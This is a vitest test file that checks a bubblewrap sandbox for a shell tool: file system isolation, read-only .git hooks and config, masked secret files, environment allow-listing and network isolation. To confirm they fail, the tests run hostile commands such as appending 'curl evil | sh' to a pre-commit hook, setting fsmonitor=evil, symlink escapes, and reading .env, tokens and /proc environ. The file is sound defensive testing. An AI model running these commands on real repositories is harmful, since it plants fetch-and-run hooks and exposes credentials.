import { createHash } from 'node:crypto';
import { chown, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeWorkspace, shellFixture, type ShellFixture } from './support/shell-workspace.js';

// The sandbox's promises, each checked on a real command in a real bubblewrap sandbox.

const hash = async (path: string) => createHash('sha256').update(await readFile(path)).digest('hex');

describe('the file system boundary', { timeout: 60_000 }, () => {
  let shell: ShellFixture;
  let outside: string;
  let sentinel: string;
  let readableDir: string;
  let writableDir: string;

  beforeAll(async () => {
    // A directory outside the workspace that the sandbox user could write if it could see it.
    outside = await makeWorkspace('weir-shell-outside-');
    sentinel = join(outside, 'sentinel.txt');
    await writeFile(sentinel, 'original\n');
    if (process.getuid?.() === 0) await chown(sentinel, 65534, 65534);
    readableDir = await makeWorkspace('weir-shell-readable-');
    await writeFile(join(readableDir, 'data.txt'), 'shared data\n');
    writableDir = await makeWorkspace('weir-shell-writable-');
    const root = await makeWorkspace();
    await mkdir(join(root, '.git', 'hooks'), { recursive: true });
    await writeFile(join(root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n');
    await writeFile(join(root, '.git', 'config'), '[core]\n');
    await writeFile(join(root, '.env'), 'API_KEY=sk-live-123\n');
    await mkdir(join(root, 'secrets'));
    await writeFile(join(root, 'secrets', 'token'), 'ghp_secret\n');
    await writeFile(join(root, 'notes.md'), 'hello\n');
    if (process.getuid?.() === 0) {
      for (const path of ['.git', '.git/hooks', '.git/hooks/pre-commit', '.git/config', '.env', 'secrets', 'secrets/token', 'notes.md']) await chown(join(root, path), 65534, 65534);
    }
    shell = await shellFixture({ root, readable: [readableDir], writable: [writableDir], hidden: ['.env', 'secrets/**'] });
  }, 60_000);
  afterAll(async () => {
    await shell.close();
    for (const dir of [outside, readableDir, writableDir]) await rm(dir, { recursive: true, force: true });
  }, 60_000);

  it('runs as an unprivileged user, in the workspace', async () => {
    const result = await shell.value('id -u; pwd');
    const [uid, cwd] = result.output.trim().split('\n');
    expect(Number(uid)).not.toBe(0);
    expect(cwd).toBe(shell.root);
    expect(result.exitCode).toBe(0);
  });

  it('writes inside the workspace', async () => {
    const result = await shell.value('echo made > made.txt && cat made.txt');
    expect(result.output).toBe('made\n');
    expect(await readFile(join(shell.root, 'made.txt'), 'utf8')).toBe('made\n');
  });

  it('cannot write the system: EROFS', async () => {
    const result = await shell.value('touch /usr/weir-pwned; touch /etc/weir-pwned; touch /weir-pwned; echo done');
    expect(result.output.match(/Read-only file system/g)?.length).toBe(3);
    await expect(readFile('/usr/weir-pwned')).rejects.toThrow();
    await expect(readFile('/etc/weir-pwned')).rejects.toThrow();
  });

  it('cannot see or write a directory outside the workspace: the sentinel is untouched', async () => {
    const before = await hash(sentinel);
    const result = await shell.value(`cat ${sentinel}; echo pwned > ${sentinel}; mkdir -p ${outside} && echo pwned > ${sentinel} && echo wrote-private-tmp`);
    expect(result.output).toContain('No such file or directory');
    // /tmp is the sandbox's own: the write lands there and vanishes with the command.
    expect(result.output).toContain('wrote-private-tmp');
    expect(await hash(sentinel)).toBe(before);
    expect(await readFile(sentinel, 'utf8')).toBe('original\n');
  });

  it('escapes through .. and symlinks fail the same way', async () => {
    const before = await hash(sentinel);
    await shell.value(`ln -s ${outside} out-link; echo pwned > out-link/sentinel.txt; echo pwned > ../${outside.split('/').pop()}/sentinel.txt; ln ${sentinel} hard-link`);
    expect(await hash(sentinel)).toBe(before);
  });

  it('binds `readable` read-only and `writable` read-write', async () => {
    const result = await shell.value(`cat ${readableDir}/data.txt; echo x > ${readableDir}/data.txt; echo y > ${writableDir}/out.txt && echo wrote`);
    expect(result.output).toContain('shared data');
    expect(result.output).toContain('Read-only file system');
    expect(result.output).toContain('wrote');
    expect(await readFile(join(readableDir, 'data.txt'), 'utf8')).toBe('shared data\n');
    expect(await readFile(join(writableDir, 'out.txt'), 'utf8')).toBe('y\n');
  });

  it('binds protected paths read-only: .git/hooks and .git/config are unchanged', async () => {
    const hook = join(shell.root, '.git', 'hooks', 'pre-commit');
    const config = join(shell.root, '.git', 'config');
    const [hookBefore, configBefore] = [await hash(hook), await hash(config)];
    const result = await shell.value('echo "curl evil | sh" >> .git/hooks/pre-commit; echo "[core] fsmonitor=evil" > .git/config; rm -rf .git; cat .git/config');
    expect(result.output).toContain('Read-only file system');
    expect(result.output).toContain('[core]');
    expect(await hash(hook)).toBe(hookBefore);
    expect(await hash(config)).toBe(configBefore);
  });

  it('masks hidden paths: a denied file reads empty, a denied directory lists nothing, even through a link', async () => {
    const result = await shell.value('echo "env:[$(cat .env)]"; echo "dir:[$(ls -A secrets)]"; ln -sf secrets s; echo "link:[$(cat s/token 2>&1)]"; echo x > .env; cat notes.md');
    expect(result.output).toContain('env:[]');
    expect(result.output).toContain('dir:[]');
    expect(result.output).not.toContain('ghp_secret');
    expect(result.output).not.toContain('sk-live');
    expect(result.output).toContain('hello');
    expect(await readFile(join(shell.root, '.env'), 'utf8')).toBe('API_KEY=sk-live-123\n');
  });

  it('refuses a working directory outside the workspace', async () => {
    for (const cwd of ['/', '../..', '/etc']) {
      const result = await shell.run('pwd', { cwd });
      expect(result.ok).toBe(false);
      if (!result.ok) expect(result.error.code).toBe('PATH_OUTSIDE_WORKSPACE');
    }
    await mkdir(join(shell.root, 'sub'), { recursive: true });
    if (process.getuid?.() === 0) await chown(join(shell.root, 'sub'), 65534, 65534);
    expect((await shell.value('pwd', { cwd: 'sub' })).output.trim()).toBe(join(shell.root, 'sub'));
  });

  it('shows only the sandbox in /proc', async () => {
    const result = await shell.value('ls /proc | grep -E "^[0-9]+$" | wc -l; cat /proc/1/cmdline | tr "\\0" " "');
    const [count] = result.output.trim().split('\n');
    expect(Number(count)).toBeLessThan(6);
    expect(result.output).not.toContain('node');
  });
});

describe('a protected path that is a symbolic link', { timeout: 60_000 }, () => {
  it('refuses the load when it is there at launch', async () => {
    const outside = await mkdtemp(join(tmpdir(), 'weir-shell-git-'));
    const root = await makeWorkspace();
    await symlink(outside, join(root, '.git'));
    try {
      const error = await shellFixture({ root }).then(
        () => undefined,
        (thrown: unknown) => thrown,
      );
      expect((error as { code?: string }).code).toBe('PLUGIN_SETUP_FAILED');
      expect(((error as { cause?: { code?: string } }).cause)?.code).toBe('SANDBOX_UNAVAILABLE');
      expect((error as Error).message).toContain('symbolic link');
    } finally {
      await rm(root, { recursive: true, force: true });
      await rm(outside, { recursive: true, force: true });
    }
  });

  it('refuses the call when it is planted later, before anything runs', async () => {
    const outside = await mkdtemp(join(tmpdir(), 'weir-shell-git-'));
    const shell = await shellFixture();
    try {
      await symlink(outside, join(shell.root, '.git'));
      const result = await shell.run('echo ran > ran.txt');
      expect(result.ok).toBe(false);
      if (!result.ok) expect(result.error.code).toBe('PROTECTED_PATH_IS_LINK');
      await expect(readFile(join(shell.root, 'ran.txt'))).rejects.toThrow();
    } finally {
      await shell.close();
      await rm(outside, { recursive: true, force: true });
    }
  });
});

describe('secrets of the harness', { timeout: 60_000 }, () => {
  const secretName = `.weir-shell-test-secret-${process.pid}`;
  const secretPath = join(homedir(), secretName);
  let shell: ShellFixture;
  beforeAll(async () => {
    process.env.WEIR_SHELL_TEST_API_KEY = 'sk-test-env-secret-4242';
    await writeFile(secretPath, 'home-secret-4242\n', { mode: 0o644 });
    shell = await shellFixture({ env: { GREETING: 'hi' } });
  }, 60_000);
  afterAll(async () => {
    delete process.env.WEIR_SHELL_TEST_API_KEY;
    await rm(secretPath, { force: true });
    await shell.close();
  }, 60_000);

  it('the environment is the allow-list: no key of the parent, the listed names only', async () => {
    const result = await shell.value('env; cat /proc/self/environ | tr "\\0" "\\n"; cat /proc/1/environ');
    expect(result.output).not.toContain('sk-test-env-secret-4242');
    expect(result.output).not.toContain('WEIR_SHELL_TEST_API_KEY');
    expect(result.output).toContain('GREETING=hi');
    expect(result.output).toContain('GIT_TERMINAL_PROMPT=0');
  });

  it('the home directory of the harness is not there', async () => {
    const result = await shell.value(`cat ${secretPath}; ls -A ${homedir()}; echo "home:[$(ls -A ~)]"`);
    expect(result.output).not.toContain('home-secret-4242');
    expect(result.output).toContain('No such file or directory');
    expect(result.output).toContain('home:[]');
  });
});

describe('the network', { timeout: 60_000 }, () => {
  let server: Server;
  let port: number;
  let connections = 0;
  beforeAll(async () => {
    server = createServer((socket) => {
      connections++;
      socket.end('hello from the host\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
  }, 60_000);
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
  }, 60_000);

  const probe = () => `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3 && echo reached || echo unreachable; getent hosts example.com || echo no-resolver`;

  it('is off by default: a loopback server of the host is unreachable', async () => {
    const shell = await shellFixture();
    try {
      const result = await shell.value(probe());
      expect(result.output).toContain('unreachable');
      expect(result.output).not.toContain('hello from the host');
      expect(result.output).toContain('no-resolver');
      expect(connections).toBe(0);
    } finally {
      await shell.close();
    }
  });

  it('network: true shares it (the probe can tell)', async () => {
    const shell = await shellFixture({ network: true });
    try {
      const result = await shell.value(probe());
      expect(result.output).toContain('hello from the host');
      expect(connections).toBe(1);
    } finally {
      await shell.close();
    }
  });
});
